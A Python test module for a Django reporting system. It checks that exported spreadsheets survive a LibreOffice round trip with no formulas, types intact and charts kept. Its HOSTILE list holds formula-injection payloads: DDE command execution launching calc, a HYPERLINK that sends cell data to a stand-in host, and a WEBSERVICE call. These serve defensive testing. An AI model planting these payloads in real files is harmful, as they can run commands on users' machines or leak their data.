"""Every workbook, opened and saved again by LibreOffice, is what it was: each cell with its type, its pictures, and no formula from data."""

import csv
import os
from datetime import date, timedelta
from random import Random

import pytest
from django.db import transaction
from openpyxl import load_workbook

from agencies.models import Agency
from agencies.roles import PROGRAMME_MANAGER
from audit.actor import acting
from audit.moment import walking_at
from cases.programmes import Programme
from reintegration.measures.kinds import MeasureKind
from reports.counting import Question, counted_at
from reports.declared import REPORTS
from reports.facts.rows import THE_HOUSE, Fact, FactKind
from reports.figures import FIGURES
from reports.files import Asked, file_of
from reports.initiatives.files import file_of as register_file
from reports.initiatives.keeping import name, record
from reports.initiatives.reporting import Half, report
from reports.initiatives.rows import Initiative
from reports.official.counting import official
from reports.official.files import file_of as official_file
from reports.official.lists import layouts
from reports.tables import cross, table_of
from tests import a
from tests.reports.office import EVERY_SHEET, READ_AS_A_PERSON_WOULD, XLSX, charts_in, convert, find_office

pytestmark = pytest.mark.django_db
FULL = os.environ.get("QAYIDIS_FULL") == "1"
FIRST, LAST, NOW = date(2025, 1, 1), date(2026, 12, 31), a.at(2026, 11, 20, 9, 0)
HOSTILE = (
    "=1+1", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "{=1+1}", "=\"a\"&\"b\"", "＝1+1", "%0A-3+3",
    '=HYPERLINK("http://x.example/?"&A1,"click")', "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", '=DDE("cmd";"/C calc";"x")',
    "=WEBSERVICE(\"http://x.example\")", "1;=1+1", "a,=1+1", '"=1+1', "00123", "1e5", "31.12.2025", "TRUE", "#REF!", "  spaced  ",
)  # fmt: skip


def some_facts(chance, number):
    """Facts of every kind, in which whatever people may have written looks like a formula."""
    programmes = list(Programme.objects.values_list("code", flat=True))
    kinds = list(MeasureKind.objects.values_list("code", flat=True))
    partners = list(Agency.objects.filter(state="AZ").values_list("code", flat=True))
    Fact.objects.bulk_create(
        Fact(
            kind=chance.choice(FactKind.values), source=f"{at}", recorded_at=a.at(2025, 1, 1, 0, 0), procedure=at, groups=[],
            person=chance.randint(1, number), on=date(2025, 1, 1) + timedelta(days=chance.randint(0, 680)), begun_on=date(2025, 1, 1),
            direction="in", state=chance.choice(("DE", "NL", "CH", "FR")), agreement=chance.choice(("EUAZ", "CHAZ", "")),
            sex=chance.choice("FM"), citizenship=chance.choice(("AZ", "GE")), age=chance.choice((5, 16, 30, 50, None)),
            return_type=chance.choice(("assisted", "readmitted")), region=chance.choice(HOSTILE)[:60], programme=chance.choice(programmes),
            measure_kind=chance.choice(kinds), dimension=chance.choice(("economic", "social")), partner=chance.choice(partners),
            outcome=chance.choice(("agreed", "refused", "open", "committed", "spent", "contacted", "=2+2")), currency="EUR",
            ground=chance.choice(("", "other", "+3")), wave=chance.choice(("3", "12")), timely=chance.choice(("in_time", "late", "")),
            days=chance.randint(0, 90), amount=chance.randint(-5000, 90000) / 100,
        )
        for at in range(number)
    )  # fmt: skip


@pytest.fixture(scope="module")
def made(django_db_setup, django_db_blocker, tmp_path_factory):
    """The folder with every workbook, and the one with what LibreOffice made of them."""
    find_office()
    folder = tmp_path_factory.mktemp("made")
    with django_db_blocker.unblock(), walking_at(NOW), transaction.atomic():
        _write_all(folder)
        transaction.set_rollback(True)
    return folder, convert(sorted(folder.glob("*.xlsx")), XLSX, tmp_path_factory.mktemp("again"))


def _write_all(folder):
    for number, words in enumerate(HOSTILE):
        a.programme(f"HOSTILE-{number}", name_en=words, name_az=words)
    Agency.objects.filter(code="AZ-SEA").update(name_en=HOSTILE[0])
    some_facts(Random(1), 6000 if FULL else 900)
    span = (FIRST, LAST, counted_at())
    where = [(words, words) for words in HOSTILE]
    actor = a.person(PROGRAMME_MANAGER, at="AZ-MLSP", name=HOSTILE[4])
    for asked, by in ((Asked(THE_HOUSE, *span, where), THE_HOUSE), (Asked(actor, *span), actor)):
        for code, declared in REPORTS.items() if by is THE_HOUSE else ():
            tables = [table_of(one, by, span) for one in declared.tables]
            for form in ("xlsx", "csv"):
                (folder / f"{code}.{form}").write_bytes(file_of(form, HOSTILE[13] + code, tables, asked))
    _write_pivots(folder, span, Asked(actor, *span, where))
    for code, layout in layouts().items():
        made = official_file("xlsx", official(layout, THE_HOUSE, span), Asked(THE_HOUSE, *span))
        (folder / f"{code}.xlsx").write_bytes(made)
    _write_register(folder, actor, span)


def _write_pivots(folder, span, asked):
    for figure, rows, columns in (
        ("referred", "region", "programme"), ("measures", "region", "measure_kind"), ("spent", "programme", "currency"),
        ("received", "month", "state"), ("days_to_reply", "state", "ground"), ("reached_share", "wave", "sex"),
    ):  # fmt: skip
        table = cross(Question(FIGURES[figure], *span, rows, columns), THE_HOUSE)
        for form in ("xlsx", "csv"):
            (folder / f"pivot-{figure}.{form}").write_bytes(file_of(form, table.title, [table], asked))


def _write_register(folder, actor, span):
    initiative = Initiative.objects.get(chapter=4)
    with acting(actor):
        name(initiative, {"agency": actor.agency, "partners": HOSTILE[1]})
        for number, words in enumerate(HOSTILE):
            record(initiative, "progress", {"on": date(2026, 1, 1 + number), "text": words, "reference": words}, actor)
        figure = {"figure": "referred", "first": FIRST, "last": LAST}
        record(initiative, "evidence", {"on": date(2026, 2, 1), "text": "Cases", **figure}, actor)
    half = Half(2026, 1)
    asked = Asked(THE_HOUSE, half.first, half.last, counted_at())
    (folder / "register.xlsx").write_bytes(register_file("xlsx", report(half, asked.as_of), half, asked))


@pytest.fixture(scope="module")
def books(made):
    """{file: (as we made it, as LibreOffice saved it)}, read once."""
    folder, again = made
    return {
        path.name: (load_workbook(path), load_workbook(again / path.name)) for path in sorted(folder.glob("*.xlsx"))
    }


def cells(sheet):
    """{place: (type, value, whether it is a day)} of the cells that hold something."""
    filled = (cell for row in sheet.iter_rows() for cell in row if cell.value not in (None, ""))
    return {cell.coordinate: (cell.data_type, cell.value, bool(cell.is_date)) for cell in filled}


def test_every_cell_is_what_it_was_and_none_is_a_formula(books):
    compared = 0
    for name_of, (before, after) in books.items():
        assert before.sheetnames == after.sheetnames
        for one, other in zip(before.worksheets, after.worksheets, strict=True):
            told = cells(one)
            assert told == cells(other), (name_of, one.title)
            assert not [place for place, (kind, _value, _is_day) in told.items() if kind == "f"]
            compared += len(told)
    assert compared > 5000 and len(books) > 15


def test_numbers_days_and_words_each_have_their_type(books):
    book = books["programme.xlsx"][1]
    cover = {row[0].value: row[1] for row in book.worksheets[0].iter_rows() if row[0].value}
    assert cover["First day"].is_date and cover["First day"].number_format.lower().replace("\\", "") == "dd.mm.yyyy"
    assert cover["Counted as of"].is_date and cover["Scope"].data_type == "s"
    sheet = book.worksheets[1]
    assert {cell.data_type for row in sheet.iter_rows(min_row=2, min_col=2) for cell in row} == {"n"}
    shares = books["pivot-reached_share.xlsx"][1].worksheets[1]
    assert all(
        0 <= cell.value <= 1 and "%" in cell.number_format
        for row in shares.iter_rows(min_row=2, min_col=2)
        for cell in row
    )


def test_filters_stay_heads_are_frozen_and_no_sheet_is_hidden(books):
    """Panes are of the view, which LibreOffice has none of without a window: they are looked for in what we made."""
    for name_of, (before, after) in books.items():
        for one, other in zip(before.worksheets, after.worksheets, strict=True):
            assert other.sheet_state == one.sheet_state == "visible" and one.freeze_panes, (name_of, one.title)
            assert (other.auto_filter.ref or "").replace("$", "") == (one.auto_filter.ref or ""), (name_of, one.title)


def test_every_picture_is_still_there(made):
    folder, again = made
    before = {path.name: charts_in(path) for path in folder.glob("*.xlsx")}
    assert before == {name: charts_in(again / name) for name in before}
    assert sum(before.values()) > 15 and before["pivot-received.xlsx"] == 1


def test_what_is_shown_as_text_is_the_text(made, books, tmp_path):
    """The same workbooks as text, sheet by sheet: whoever reads cells without types finds the same words."""
    folder, _again = made
    into = tmp_path / "csv"
    convert([folder / "pivot-referred.xlsx", folder / "register.xlsx"], EVERY_SHEET, into)
    for path in ("pivot-referred", "register"):
        for sheet in books[f"{path}.xlsx"][0].worksheets:
            with (into / f"{path}-{sheet.title}.csv").open(encoding="utf-8", newline="") as text:
                rows = list(csv.reader(text))
            for at, row in enumerate(sheet.iter_rows()):
                said = [
                    (cell.value, rows[at][place])
                    for place, cell in enumerate(row)
                    if cell.data_type == "s" and cell.value
                ]
                assert [one for one, _other in said] == [other for _one, other in said], (path, sheet.title, at)


def test_a_csv_that_a_spreadsheet_opens_makes_no_formula_either(made, tmp_path):
    """A file that nobody made safe lies among them, to show that this reader takes a formula for one."""
    folder, _again = made
    ours, into = sorted(folder.glob("*.csv")), tmp_path / "opened"
    (tmp_path / "bare.csv").write_text("Value\n=1+1\n", encoding="utf-8")
    convert([*ours, tmp_path / "bare.csv"], XLSX, into, READ_AS_A_PERSON_WOULD)
    formulas = {path.stem: _formulas(path) for path in into.glob("*.xlsx")}
    assert formulas.pop("bare") == ["A2"]
    assert formulas == {path.stem: [] for path in ours} and len(ours) > 10


def _formulas(path):
    return [cell.coordinate for row in load_workbook(path).active for cell in row if cell.data_type == "f"]
